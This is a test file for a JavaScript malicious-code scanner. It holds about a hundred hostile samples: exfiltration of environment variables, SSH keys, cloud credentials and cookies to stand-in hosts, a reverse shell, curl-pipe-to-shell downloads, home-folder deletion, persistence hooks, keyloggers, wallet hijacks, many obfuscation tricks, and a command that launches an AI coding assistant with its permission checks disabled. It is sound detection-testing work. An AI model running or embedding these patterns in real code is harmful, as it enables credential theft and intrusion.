import { describe, expect, test } from 'vitest'
import { scanBytes } from '../../../../fixtures/scan-bytes'

const scan = (text: string) => scanBytes(Buffer.from(text), { name: 'x.js' })

/** What a source does, the fact that tells it, and the source: never run, and harmless if it were. */
const TRICKS: readonly [what: string, fact: string, text: string][] = [
  [
    'Base64 text that is evaluated',
    'flow.decoded.eval',
    "eval(atob('Y29uc29sZS5sb2coImhlbGxvIik='))",
  ],
  ['eval under a name in two pieces', 'hidden.eval', "globalThis['ev'+'al']('console.log(1)')"],
  [
    'child_process over the main module',
    'hidden.process',
    "process['mainModule'].require('child_process').execSync('echo hi')",
  ],
  [
    'every name of a command in pieces',
    'hidden.process',
    "const p='main'+'Module'; process[p]['require']('child_'+'process')['ex'+'ec']('echo hi')",
  ],
  [
    'Function from the constructor of a method',
    'hidden.eval',
    "[].filter.constructor('return process')().mainModule.require('child_process').execSync('echo hi')",
  ],
  [
    'Function from the constructor of an arrow',
    'hidden.eval',
    "(()=>{}).constructor('console.log(1)')()",
  ],
  [
    'Function from the constructor of a constructor',
    'hidden.eval',
    "this.constructor.constructor('return process')().exit()",
  ],
  [
    'Reflect.construct of Function',
    'hidden.eval',
    "Reflect.construct(Function, ['console.log(1)'])()",
  ],
  [
    'Reflect.apply of exec',
    'hidden.process',
    "const cp=require('child_process'); Reflect.apply(cp.exec, cp, ['echo hi'])",
  ],
  [
    'an alias of require and a name in pieces',
    'hidden.process',
    "const r = require; const {exec: e} = r('child'+'_process'); e('echo hi')",
  ],
  [
    'a table of strings with computed places',
    'hidden.process',
    "const a=['exec','child_process','echo hi']; const g=i=>a[i^1]; require(g(0))[g(1)](g(3))",
  ],
  [
    'character codes',
    'flow.decoded.eval',
    'eval(String.fromCharCode(99,111,110,115,111,108,101,46,108,111,103,40,49,41))',
  ],
  [
    'text that is reversed',
    'flow.decoded.eval',
    "eval(')1(gol.elosnoc'.split('').reverse().join(''))",
  ],
  ['text with filler taken out', 'flow.decoded.eval', "eval('coXnsXole.lXog(1)'.replace(/X/g,''))"],
  [
    'needless hexadecimal escapes',
    'hidden.process',
    "require('\\x63\\x68\\x69\\x6c\\x64\\x5f\\x70\\x72\\x6f\\x63\\x65\\x73\\x73').exec('echo hi')",
  ],
  [
    'text under XOR in a loop',
    'flow.decoded.eval',
    "const k=7;const d=[100,104,105];let s='';for(let i=0;i<d.length;i++){s+=String.fromCharCode(d[i]^k)};eval(s)",
  ],
  [
    'hexadecimal text as a command',
    'flow.decoded.process',
    "const s=Buffer.from('6563686f206869','hex').toString();require('child_process').exec(s)",
  ],
  [
    'import of a Base64 data URL',
    'flow.decoded.eval',
    "import('data:text/javascript;base64,Y29uc29sZS5sb2coMSk=')",
  ],
  [
    'import of a plain data URL',
    'hidden.eval',
    "import('data:text/javascript,console.log(process.env)')",
  ],
  [
    'the environment in a request',
    'flow.environment.network',
    "fetch('https://evil.example/c',{method:'POST',body:JSON.stringify(process.env)})",
  ],
  [
    'the environment written to an https request',
    'flow.environment.network',
    "const https=require('https');const d=Buffer.from(JSON.stringify(process.env)).toString('base64');const q=https.request({hostname:'evil.example',method:'POST'},()=>{});q.write(d);q.end()",
  ],
  [
    'a copy of the environment',
    'flow.environment.network',
    "const data={...process.env};require('axios').post('https://evil.example',data)",
  ],
  [
    'a secret variable in an address',
    'flow.environment.network',
    "fetch('https://collect.example/?t='+process.env.NPM_TOKEN)",
  ],
  [
    'an SSH key in a request',
    'flow.credentials.network',
    "const fs=require('fs'),os=require('os'),path=require('path');const k=fs.readFileSync(path.join(os.homedir(),'.ssh','id_rsa'),'utf8');fetch('https://evil.example',{method:'POST',body:k})",
  ],
  [
    'a registry token read with promises',
    'flow.credentials.network',
    "import {readFile} from 'node:fs/promises';import {homedir} from 'node:os';const t=await readFile(`${homedir()}/.npmrc`,'utf8');await fetch('https://evil.example/x',{method:'POST',body:t})",
  ],
  [
    'cloud credentials read with a callback',
    'flow.credentials.network',
    "const fs=require('fs');fs.readFile(process.env.HOME+'/.aws/credentials','utf8',(e,d)=>{require('https').get('https://evil.example/?'+encodeURIComponent(d))})",
  ],
  [
    'an answer evaluated in a promise chain',
    'flow.network.eval',
    "fetch('https://evil.example/p.js').then(r=>r.text()).then(t=>eval(t))",
  ],
  [
    'an answer made into a function',
    'flow.network.eval',
    "const r=await fetch('https://evil.example/p.js');const t=await r.text();new Function(t)()",
  ],
  [
    'an answer collected from data events',
    'flow.network.eval',
    "const https=require('https');https.get('https://evil.example/p',res=>{let b='';res.on('data',d=>b+=d);res.on('end',()=>{eval(b)})})",
  ],
  [
    'an answer run by vm',
    'flow.network.eval',
    "const axios=require('axios');axios.get('https://x.example').then(({data})=>{require('vm').runInThisContext(data)})",
  ],
  [
    'a WebSocket message as a command',
    'flow.network.process',
    "const ws=new WebSocket('wss://c2.example');ws.onmessage=e=>require('child_process').exec(e.data)",
  ],
  [
    'bytes of a socket as a command',
    'flow.network.process',
    "const net=require('net'),cp=require('child_process');const s=net.connect(4444,'c2.example');s.on('data',d=>cp.exec(d.toString(),(e,o)=>s.write(o)))",
  ],
  [
    'a shell whose streams are a socket',
    'threat.reverse-shell',
    "const net=require('net'),cp=require('child_process');const sh=cp.spawn('/bin/sh',[]);const c=new net.Socket();c.connect(4444,'c2.example',()=>{c.pipe(sh.stdin);sh.stdout.pipe(c)})",
  ],
  [
    'the host name in a DNS query',
    'flow.host.network',
    "const dns=require('dns'),os=require('os');dns.lookup(Buffer.from(os.hostname()).toString('hex')+'.evil.example',()=>{})",
  ],
  [
    'host and user in a request',
    'flow.host.network',
    "const os=require('os');fetch('https://evil.example',{method:'POST',body:JSON.stringify({h:os.hostname(),u:os.userInfo().username})})",
  ],
  [
    'curl into a shell',
    'threat.download-and-run',
    "require('child_process').exec('curl -s https://evil.example/i.sh | sh')",
  ],
  [
    'PowerShell with an encoded command',
    'threat.encoded-command',
    "require('child_process').spawn('powershell',['-NoProfile','-EncodedCommand','SQBFAFgA'+'SQBFAFgA'])",
  ],
  [
    'rm -rf of the home folder',
    'threat.destructive',
    "require('child_process').execSync('rm -rf ~/')",
  ],
  [
    'removal of the home folder',
    'threat.destructive',
    "const fs=require('fs');fs.rmSync(require('os').homedir(),{recursive:true,force:true})",
  ],
  [
    'a line appended to .bashrc',
    'threat.persistence',
    "const fs=require('fs');fs.appendFileSync(require('path').join(require('os').homedir(),'.bashrc'),'echo hi')",
  ],
  [
    'a crontab entry',
    'threat.persistence',
    "require('child_process').exec('(crontab -l; echo \"@reboot node x.js\") | crontab -')",
  ],
  [
    'a miner',
    'threat.crypto-miner',
    "require('child_process').spawn('./xmrig',['-o','stratum+tcp://pool.example:3333'])",
  ],
  [
    'replaced currency addresses',
    'threat.wallet-hijack',
    "document.body.innerHTML=document.body.innerHTML.replace(/0x[a-fA-F0-9]{40}/g,'0x1111111111111111111111111111111111111111')",
  ],
  [
    'a hooked wallet',
    'threat.wallet-hijack',
    "const o=window.ethereum.request;window.ethereum.request=async a=>{a.params[0].to='0x1111111111111111111111111111111111111111';return o(a)}",
  ],
  [
    'eval under a name in pieces with an argument of the command line',
    'hidden.eval',
    "const f = globalThis['ev' + 'al']; f(String(process.argv[2]))",
  ],
  [
    'names in a table',
    'hidden.process',
    "const t=['exec','child_process','echo hi','require'];const r=module[t[3]]||require;r(t[1])[t[0]](t[2])",
  ],
  [
    'a type argument that JavaScript takes for comparisons',
    'flow.decoded.eval',
    "eval<any>(atob('Y29uc29sZS5sb2coMSk='))",
  ],
  [
    'an address of a script in Base64',
    'flow.decoded.module',
    "importScripts(atob('aHR0cHM6Ly9jZG4uZXhhbXBsZS5jb20veC5qcw=='))",
  ],
  [
    'a decoder as a tag of templates',
    'hidden.process',
    'const t=(s)=>s.raw[0].split("").map(c=>String.fromCharCode(c.charCodeAt(0)-1)).join("");require(t`dijme`+"_"+t`qspdftt`).exec("echo hi")',
  ],
  [
    'an object that is decoded when it becomes text',
    'flow.decoded.eval',
    "const job={toString:()=>Buffer.from('636f6e736f6c652e6c6f67283129','hex').toString()};setTimeout(`${job}`,1000)",
  ],
  [
    'eval looked for by its letters',
    'hidden.eval',
    "globalThis[Object.getOwnPropertyNames(globalThis).find(n=>n[3]==='l')](Buffer.from('MQ==','base64').toString())",
  ],
  [
    'names of a namespace with a table',
    'hidden.process',
    "namespace Codec { const table='abcdefghijklmnopqrstuvwxyz_'; export const read=(n: number[])=>n.map(i=>table[i]).join('') }\nrequire(Codec.read([2,7,8,11,3,26,15,17,14,2,4,18,18])).exec('echo hi')",
  ],
  [
    'a header as a command',
    'flow.network.process',
    "require('http').createServer((q,s)=>{require('child_process').exec(q.headers['x-debug'])})",
  ],
  [
    'code that the debugger runs',
    'flow.decoded.eval',
    "const i=require('inspector');const s=new i.Session();s.connect();s.post('Runtime.evaluate',{expression:Buffer.from('MQ==','base64').toString()})",
  ],
  [
    'Function from Function.constructor',
    'hidden.eval',
    "try{go()}catch(e){const h=new Function.constructor('require',e.response.data);h(require)}",
  ],
  [
    'encrypted code that is compiled',
    'flow.decoded.eval',
    "const c=require('crypto');const d=c.createDecipheriv('aes-256-cbc',k,v);const t=d.update(x,'hex','utf8')+d.final('utf8');const m=new module.constructor();m._compile(t,'')",
  ],
  [
    'a hook in the options of every Node program',
    'threat.persistence',
    "require('child_process').execSync('npm config set node-options \"--require /tmp/hook.js\"')",
  ],
  [
    'an assistant without its questions',
    'threat.security-off',
    "require('child_process').spawnSync('claude',['--dangerously-skip-permissions','-p','list files'])",
  ],
  [
    'a name that a generator gives in pieces',
    'hidden.process',
    "function* parts(){yield 'child';yield '_';yield 'process'};require([...parts()].join('')).exec('echo hi')",
  ],
  [
    'members of an enumeration',
    'hidden.process',
    "enum Part { A = 'child_', B = 'process' }\nrequire(`${Part.A}${Part.B}`).execSync('echo hi')",
  ],
  [
    'the environment as a field of what is sent',
    'flow.environment.network',
    "const s=process.env;const send=(r)=>fetch('https://collector.example/r',{method:'POST',body:JSON.stringify(r)});send({body:s})",
  ],
  [
    'a module loader that is patched for one module',
    'threat.import-hook',
    "const M=require('module');const o=M._load;M._load=function(n){const x=o.apply(this,arguments);if(n==='https')x.request=()=>{};return x}",
  ],
  [
    'a module loader that is patched by a source that starts programs',
    'threat.import-hook',
    "const M=require('module');const o=M._load;M._load=function(n){return o.apply(this,arguments)};require('child_process').exec(n)",
  ],
  [
    'a fetch that reports everything',
    'threat.loader-patch',
    "const o=window.fetch;window.fetch=function(...a){navigator.sendBeacon('https://evil.example',JSON.stringify(a));return o(...a)}",
  ],
  [
    'keystrokes in an address',
    'threat.keylogger',
    "document.addEventListener('keydown',e=>{fetch('https://evil.example/?k='+e.key)})",
  ],
  [
    'keystrokes that are collected',
    'threat.keylogger',
    "let b='';document.addEventListener('keypress',e=>{b+=e.key});setInterval(()=>{navigator.sendBeacon('https://evil.example',b);b=''},1000)",
  ],
  [
    'the clipboard in a request',
    'threat.clipboard',
    "setInterval(async()=>{const t=await navigator.clipboard.readText();fetch('https://evil.example',{method:'POST',body:t})},1000)",
  ],
  [
    'cookies in the address of an image',
    'flow.credentials.network',
    "new Image().src='https://evil.example/?c='+document.cookie",
  ],
  [
    'an assignment over __proto__',
    'threat.prototype-pollution',
    'const o={};o.__proto__.isAdmin=true',
  ],
  [
    'a merge of parsed __proto__',
    'threat.prototype-pollution',
    'function merge(a,b){for(const k in b){if(typeof b[k]==="object")merge(a[k],b[k]);else a[k]=b[k]}} merge({},JSON.parse(\'{"__proto__":{"a":1}}\'))',
  ],
  [
    'a webhook of a chat',
    'threat.exfiltration-host',
    "fetch('https://discord.com/api/webhooks/123/abc',{method:'POST',body:'x'})",
  ],
  [
    'TLS checks switched off',
    'threat.security-off',
    "process.env.NODE_TLS_REJECT_UNAUTHORIZED='0'",
  ],
  [
    'the binding that starts processes',
    'hidden.process',
    "process.binding('spawn_sync').spawn({file:'/bin/echo',args:['echo','hi']})",
  ],
  [
    'the loader behind require',
    'hidden.process',
    "module.constructor._load('child_process').exec('echo hi')",
  ],
  [
    'createRequire and a joined name',
    'hidden.process',
    "import {createRequire} from 'module';const q=createRequire(import.meta.url);const m=q(['child','process'].join('_'));m.exec('echo hi')",
  ],
  ['decoded text for a timer', 'flow.decoded.eval', "setTimeout(atob('Y29uc29sZS5sb2coMSk='),10)"],
  [
    'decoded text for a worker',
    'flow.decoded.eval',
    "const {Worker}=require('worker_threads');new Worker(Buffer.from('Y29uc29sZS5sb2coMSk=','base64').toString(),{eval:true})",
  ],
  [
    'a download that is piped to a file and started',
    'threat.download-and-run',
    "const https=require('https'),fs=require('fs'),cp=require('child_process');const f='/tmp/.x';https.get('https://evil.example/b',r=>{r.pipe(fs.createWriteStream(f)).on('finish',()=>{fs.chmodSync(f,0o755);cp.spawn(f)})})",
  ],
  [
    'a download that is written and started',
    'threat.download-and-run',
    "const fs=require('fs');const r=await fetch('https://evil.example/b');const out=require('os').tmpdir()+'/u.exe';fs.writeFileSync(out,Buffer.from(await r.arrayBuffer()));require('child_process').execFile(out)",
  ],
  [
    'an endless loop that forks',
    'threat.fork-bomb',
    "const cp=require('child_process');while(true){cp.fork(__filename)}",
  ],
  [
    'a look at the host name before acting',
    'threat.anti-analysis',
    "if(require('os').hostname().includes('sandbox')){process.exit()} require('child_process').exec('echo hi')",
  ],
  [
    'a date before which nothing happens',
    'threat.anti-analysis',
    "if(Date.now()>1767225600000){require('child_process').exec('echo hi')}",
  ],
  ['a debugger trap', 'threat.anti-analysis', 'setInterval(function(){debugger},50)'],
  [
    'JSFuck',
    'obfuscation.symbols-only',
    '[][(![]+[])[+[]]+([![]]+[][[]])[+!+[]+[+[]]]+(![]+[])[!+[]+!+[]]+(!![]+[])[+[]]+(!![]+[])[!+[]+!+[]+!+[]]+(!![]+[])[+!+[]]][([][(![]+[])[+[]]]+[])[!+[]+!+[]+!+[]]]();[][(![]+[])[+[]]+([![]]+[][[]])[+!+[]+[+[]]]+(![]+[])[!+[]+!+[]]+(!![]+[])[+[]]+(!![]+[])[!+[]+!+[]+!+[]]+(!![]+[])[+!+[]]][([][(![]+[])[+[]]]+[])[!+[]+!+[]+!+[]]]()',
  ],
  [
    'the packer of Dean Edwards',
    'obfuscation.packed',
    "eval(function(p,a,c,k,e,d){while(c--)if(k[c])p=p.replace(new RegExp('\\\\b'+c+'\\\\b','g'),k[c]);return p}('0.1(\"2\")',3,3,'console|log|hi'.split('|'),0,{}))",
  ],
  [
    'a flattened control flow',
    'obfuscation.control-flow',
    "const o='2|0|1'.split('|');let i=0;while(true){switch(o[i++]){case '0':console.log(1);continue;case '1':console.log(2);continue;case '2':console.log(0);continue}break}",
  ],
  [
    'a rotating table of strings',
    'obfuscation.string-array',
    "(function(_0x1,_0x2){const g=_0xd;const s=_0x1();while(!![]){try{const v=parseInt(g(0x0))/0x1+parseInt(g(0x1))/0x2;if(v===_0x2)break;else s['push'](s['shift']());}catch(e){s['push'](s['shift']());}}}(_0xa,0x7));function _0xa(){const t=['exec','3a','8b','child_process','echo hi'];_0xa=function(){return t};return _0xa()}function _0xd(i){const a=_0xa();return a[i]}require(_0xd(0x2))[_0xd(0x4)](_0xd(0x3))",
  ],
  [
    'Base64 in Base64',
    'obfuscation.nested-encoding',
    "eval(atob(atob('WTI5dWMyOXNaUzVzYjJjb01Taz0=')))",
  ],
  [
    'code pushed out of sight',
    'obfuscation.whitespace',
    "console.log(1);                                                                                                                                                                                                                                                                                                            require('child_process').exec('echo hi')",
  ],
  [
    'compressed code',
    'flow.decoded.eval',
    "const z=require('zlib');eval(z.gunzipSync(Buffer.from('H4sIAAAAAAAAA0vOzyvOz0nVy8lP1zDUBABfyRCHDgAAAA==','base64')).toString())",
  ],
  [
    'the environment over two functions',
    'flow.environment.network',
    "function send(d){const x=new XMLHttpRequest();x.open('POST','https://evil.example');x.send(d)} function collect(){return JSON.stringify(process.env)} send(collect())",
  ],
  [
    'the environment over a field',
    'flow.environment.network',
    "const st={};function a(){fetch('https://evil.example',{method:'POST',body:st.d})} function b(){st.d=JSON.stringify(process.env)} b();a()",
  ],
  [
    'the environment over a class',
    'flow.environment.network',
    "class A{constructor(){this.e=process.env} send(){fetch('https://evil.example',{method:'POST',body:JSON.stringify(this.e)})}} new A().send()",
  ],
  [
    'a Deno command',
    'threat.download-and-run',
    "const p=new Deno.Command('sh',{args:['-c','curl https://evil.example | sh']});p.output()",
  ],
  [
    'a Bun command',
    'threat.download-and-run',
    "Bun.spawn(['sh','-c','curl https://evil.example | bash'])",
  ],
  [
    'a downloaded native module',
    'threat.download-and-run',
    "const m={exports:{}};fetch('https://evil.example/x.node').then(r=>r.arrayBuffer()).then(b=>{require('fs').writeFileSync('/tmp/x.node',Buffer.from(b));process.dlopen(m,'/tmp/x.node')})",
  ],
  [
    'a query parameter as a command',
    'flow.network.process',
    "const app=require('express')();app.get('/c',(req,res)=>{require('child_process').exec(req.query.cmd,(e,o)=>res.send(o))})",
  ],
  [
    'a message that is evaluated',
    'flow.input.eval',
    "window.addEventListener('message',e=>eval(e.data))",
  ],
  ['an escaped identifier', 'hidden.eval', "\\u0065val(atob('Y29uc29sZS5sb2coMSk='))"],
  [
    'TypeScript with a name in pieces',
    'hidden.process',
    "import * as cp from 'node:child_process'; const x: string = ['e','x','e','c'].join(''); (cp as any)[x]('echo hi')",
  ],
  [
    'JSX with decoded code',
    'flow.decoded.eval',
    "const A=()=>{const t=atob('Y29uc29sZS5sb2coMSk='); return <div onClick={()=>eval(t)}>x</div>}",
  ],
  [
    'a command of a library',
    'threat.download-and-run',
    "import {execaCommand} from 'execa'; await execaCommand('curl https://evil.example/a | bash',{shell:true})",
  ],
  [
    'a package from an address',
    'threat.dependency-source',
    "require('child_process').execSync('npm install https://evil.example/p.tgz')",
  ],
  [
    'a path that climbs out',
    'threat.path-traversal',
    "require('fs').writeFileSync('../../../../etc/cron.d/x','')",
  ],
  [
    'the output of whoami',
    'flow.host.network',
    "const cp=require('child_process');const o=cp.execSync('whoami').toString();fetch('https://evil.example/?u='+o)",
  ],
  [
    'the environment sent to a bot',
    'threat.exfiltration-host',
    "const https=require('https');https.get('https://api.telegram.org/bot123456789:AAabc/sendMessage?text='+JSON.stringify(process.env))",
  ],
  [
    'a bare public address',
    'threat.exfiltration-host',
    "require('http').get('http://45.33.12.9:8080/ping')",
  ],
  [
    'a bound command',
    'threat.download-and-run',
    "const f=Function.prototype.call.bind(eval);const run=require('child_process').exec.bind(null,'curl http://evil.example|sh');run()",
  ],
  [
    'a decoder function',
    'flow.decoded.eval',
    "function dec(s){let r='';for(let i=0;i<s.length;i+=2)r+=String.fromCharCode(parseInt(s.substr(i,2),16));return r} eval(dec('636f6e736f6c652e6c6f67283129'))",
  ],
  [
    'codes that are mapped and joined',
    'flow.decoded.eval',
    "eval([99,111,110,115,111,108,101].map(c=>String.fromCharCode(c)).join('')+'.log(1)')",
  ],
  [
    'env piped into curl',
    'flow.environment.network',
    "require('child_process').exec('env | curl -d @- https://evil.example')",
  ],
  [
    'an answer of a library',
    'flow.network.eval',
    "import got from 'got'; const {body}=await got('https://evil.example'); eval(body)",
  ],
]

describe('a trick in JavaScript', () => {
  test.each(TRICKS)('%s is told as %s', (_, fact, text) => {
    const found = scan(text)
    expect(found.names('code')).toContain(fact)
    expect(found.findings.some(({ severity }) => /medium|high|critical/.test(severity))).toBe(true)
  })

  test('a control of direction that stays open is told', () => {
    expect(
      scan('const a = 1 /* \u202e } \u2066if (admin)\u2069 \u2066 begin */\n').names('code'),
    ).toContain('threat.trojan-source')
  })

  test('a name of mixed alphabets is told', () => {
    expect(scan('const admin_\u0430 = 1').names('code')).toContain('threat.trojan-source')
  })

  test('code in characters that show nothing is told', () => {
    const hidden = '\ufe01\ufe02\ufe03'.repeat(20)
    expect(scan(`const s = '${hidden}'`).names('code')).toContain('obfuscation.invisible')
  })

  test('a flow has its way from source to sink', () => {
    const { facts } = scan("const t = await (await fetch('https://a.example')).text()\neval(t)")
    const flow = facts.find(({ name }) => name === 'flow.network.eval')
    expect(flow?.path?.at(0)?.role).toBe('source')
    expect(flow?.path?.at(-1)).toMatchObject({ role: 'sink', line: 2, text: 'eval(t)' })
  })
})
